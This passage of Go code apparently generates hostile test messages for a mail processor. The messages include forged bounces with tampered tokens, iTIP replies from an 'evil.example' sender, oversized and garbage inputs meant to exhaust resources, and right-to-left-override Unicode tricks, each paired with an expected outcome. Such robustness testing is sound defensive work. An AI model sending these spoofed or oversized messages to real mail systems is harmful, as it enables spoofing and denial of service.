		Expect: []string{Processed, Held, Ignored}, Member: "claire", Phase: 2},
		header("Claire Martin <claire@example.org>", "codev+{{NOTICE_TOKEN}}@example.org", "{{N}}", "Re: notice")+
			"Content-Type: text/plain; charset=utf-8\n\nThank you for your message; we will get back to you. {{MARK}}\n", false)
}

// bounces: delivery reports, real and forged.
func (g *gen) bounces() {
	dsn := func(to, failed, status string) string {
		return "From: MAILER-DAEMON@mx.example.net\nTo: " + to + "\nReturn-Path: <>\nSubject: Undelivered Mail Returned to Sender\n" +
			"Message-ID: <hostile-{{N}}@mx.example.net>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/report; report-type=delivery-status; boundary=\"b1\"\n\n" +
			"--b1\nContent-Type: text/plain\n\nThe mail system could not deliver your message. {{MARK}}\n" +
			"--b1\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example.net\n\n" +
			"Final-Recipient: rfc822; " + failed + "\nAction: failed\nStatus: " + status + "\n--b1--\n"
	}
	bad := func(file, note, raw string, expect ...string) {
		g.add(Case{Category: "bounce", File: file, Note: note, Expect: expect}, raw, false)
	}
	bad("transient", "a transient failure for Alice", dsn("codev+{{TOKEN}}@example.org", "alice@example.org", "4.2.2"), Processed)
	bad("forged-member", "a forged permanent failure for Alice's address, sent to the bare mailbox (no token)", dsn("codev@example.org", "alice@example.org", "5.1.1"), Held)
	bad("forged-animator", "a forged permanent failure for the animator, with a tampered token", dsn("codev+{{TOKEN_FLIP}}@example.org", "claire@example.org", "5.1.1"), Held)
	bad("tampered-token", "a permanent failure to a tampered token, for an address that is no member's", dsn("codev+{{TOKEN_FLIP}}@example.org", "nobody@example.net", "5.1.1"), Held)
	bad("10000-recipients", "a report with 10,000 failed recipients, none a member", strings.Replace(dsn("codev@example.org", "x0@example.net", "5.1.1"), "Status: 5.1.1\n",
		"Status: 5.1.1\n"+strings.Repeat("\nFinal-Recipient: rfc822; someone@example.net\nAction: failed\nStatus: 5.1.1\n", 2000), 1), Held)
	bad("dsn-garbage", "a delivery-status part of garbage", strings.Replace(dsn("codev@example.org", "x@y", "5.1.1"), "Reporting-MTA", "\x00\x01garbage:::\n;;;\nReporting-MTA", 1), Held, Ignored, Processed)
	bad("dsn-no-parts", "multipart/report with no parts", "From: MAILER-DAEMON@mx.example.net\nTo: codev@example.org\nReturn-Path: <>\nSubject: failure\nMessage-ID: <hostile-{{N}}@mx.example.net>\n"+
		"Content-Type: multipart/report; report-type=delivery-status; boundary=\"b1\"\n\n--b1--\n{{MARK}}\n", Held, Ignored)
}

// calendar: hostile iTIP REPLYs.
func (g *gen) calendar() {
	rsvp := func(from, attendee, uid, extra string) string {
		return header(from, "codev@example.org", "{{N}}", "Invitation acceptée") +
			"Content-Type: text/calendar; charset=utf-8; method=REPLY\n\n" +
			"BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REPLY\nBEGIN:VEVENT\nUID:" + uid + "\nDTSTAMP:20261223T090000Z\nSEQUENCE:0\n" +
			"ATTENDEE;PARTSTAT=ACCEPTED:mailto:" + attendee + "\n" + extra + "SUMMARY:{{MARK}}\nEND:VEVENT\nEND:VCALENDAR\n"
	}
	add := func(file, note, raw string, expect ...string) {
		g.add(Case{Category: "calendar", File: file, Note: note, Expect: expect}, raw, false)
	}
	add("unknown-uid", "a REPLY for an unknown event", rsvp("alice@example.org", "alice@example.org", "nope@evil.example", ""), Ignored)
	add("stranger-attendee", "a REPLY for a stranger on the session", rsvp("mallory@evil.example", "mallory@evil.example", "{{UID}}", ""), Held, Ignored)
	add("no-uid", "a REPLY without UID", rsvp("alice@example.org", "alice@example.org", "", ""), Held, Ignored)
	add("1000-attendees", "a REPLY with 1,000 attendees", rsvp("mallory@evil.example", "mallory@evil.example", "{{UID}}", strings.Repeat("ATTENDEE;PARTSTAT=DECLINED:mailto:x@evil.example\n", 1000)), Held, Ignored)
	add("1000-events", "1,000 VEVENTs", header("mallory@evil.example", "codev@example.org", "{{N}}", "x")+"Content-Type: text/calendar; method=REPLY\n\nBEGIN:VCALENDAR\nMETHOD:REPLY\n"+
		strings.Repeat("BEGIN:VEVENT\nUID:u\nATTENDEE:mailto:m@evil.example\nEND:VEVENT\n", 1000)+"COMMENT:{{MARK}}\nEND:VCALENDAR\n", Held, Ignored)
	add("unbalanced", "unbalanced BEGIN/END", header("mallory@evil.example", "codev@example.org", "{{N}}", "x")+"Content-Type: text/calendar; method=REPLY\n\n"+strings.Repeat("BEGIN:VEVENT\n", 1000)+"{{MARK}}\n", Held, Ignored)
	add("request-method", "a METHOD:REQUEST sent to codev", strings.Replace(rsvp("mallory@evil.example", "mallory@evil.example", "{{UID}}", ""), "METHOD:REPLY", "METHOD:REQUEST", -1), Held, Ignored)
	add("long-lines", "a 100 KB folded property", rsvp("mallory@evil.example", "mallory@evil.example", "{{UID}}", "X-LONG:"+strings.Repeat("a\n ", 30000)+"\n"), Held, Ignored)
}

// sizes: degenerate shapes.
func (g *gen) sizes() {
	h := aliceHeader("{{N}}", "Re: Préparation")
	add := func(c Case, raw string) { g.add(c, raw, true) }
	add(never("size", "empty", "an empty file", Held), "")
	add(never("size", "one-byte", "one byte", Held), "x")
	add(never("size", "header-only", "a header and no body", Held), crlf(h))
	add(never("size", "no-header", "a body with no header", Held), crlf("\n\n"+answer))
	add(never("size", "binary", "binary garbage", Held), strings.Repeat("\x00\xff\x13\x37\x89PNG\r\n\x1a\n", 500))
	add(legit("size", "10000-headers", "10,000 header fields"), crlf(h+strings.Repeat("X-Spam: y\n", 10000)+plainUTF8+"\n"+answer))
	add(legit("size", "100kb-header-line", "a 100 KB header line"), crlf(h+"X-Long: "+strings.Repeat("a", 100000)+"\n"+plainUTF8+"\n"+answer))
	add(legit("size", "100kb-folded", "a header folded 10,000 times"), crlf(h+"X-Folded: a"+strings.Repeat("\n a", 10000)+"\n"+plainUTF8+"\n"+answer))
	add(legit("size", "500kb-line", "a 500 KB body line"), crlf(h+plainUTF8+"\n"+answer+strings.Repeat("z", 500000)+"\n"))
	add(legit("size", "100000-lines", "100,000 short body lines"), crlf(h+plainUTF8+"\n"+answer+strings.Repeat("> q\n", 100000)))
	add(legit("size", "1000-recipients", "1,000 recipients"), crlf(strings.Replace(h, "To: Codev <codev+{{TOKEN}}@example.org>", "To: "+strings.Repeat("x@example.net, ", 1000)+"codev+{{TOKEN}}@example.org", 1)+plainUTF8+"\n"+answer))
	add(legit("size", "many-answers", "answers numbered 1 to 1,000"), crlf(h+plainUTF8+"\n"+numbered(1000)))
	add(legit("size", "huge-number", "an answer numbered 99999999999999999999"), crlf(h+plainUTF8+"\n99999999999999999999. x {{MARK}}\n-1. y\n0. z\n"))
	add(legit("size", "long-lines-quoted", "quote markers 10,000 deep"), crlf(h+plainUTF8+"\n"+answer+strings.Repeat(">", 10000)+" q\n"))
	add(legit("size", "lf-only", "bare LF line ends throughout"), h+plainUTF8+"\n"+answer)
}

func numbered(n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "%d. answer %d {{MARK}}\n", i, i)
	}
	return b.String()
}

// unicode: display tricks.
func (g *gen) unicode() {
	h := aliceHeader("{{N}}", "Re: \u202eeraperP\u202c")
	for _, c := range []struct{ file, note, body string }{
		{"rtl-override", "right-to-left override in subject and body", "Voici \u202ema réponse\u202c. {{MARK}}\n"},
		{"combining", "1,000 combining marks", "Voici" + strings.Repeat("\u0301", 1000) + " ma réponse. {{MARK}}\n"},
		{"emoji-zwj", "emoji sequences", "👩🏽‍💻👨‍👩‍👧‍👦 Voici ma réponse. {{MARK}}\n"},
		{"fullwidth-digits", "full-width digits as answer numbers", "１. réponse {{MARK}}\n"},
		{"noncharacters", "non-characters and private use", "\uffff\ufffe\U0010ffff\ue000 Voici ma réponse. {{MARK}}\n"},
		{"line-separators", "Unicode line and paragraph separators", "Voici\u2028ma\u2029réponse\u0085. {{MARK}}\n"},
	} {
		g.add(legit("unicode", c.file, c.note), h+plainUTF8+"\n"+c.body, false)
	}
}
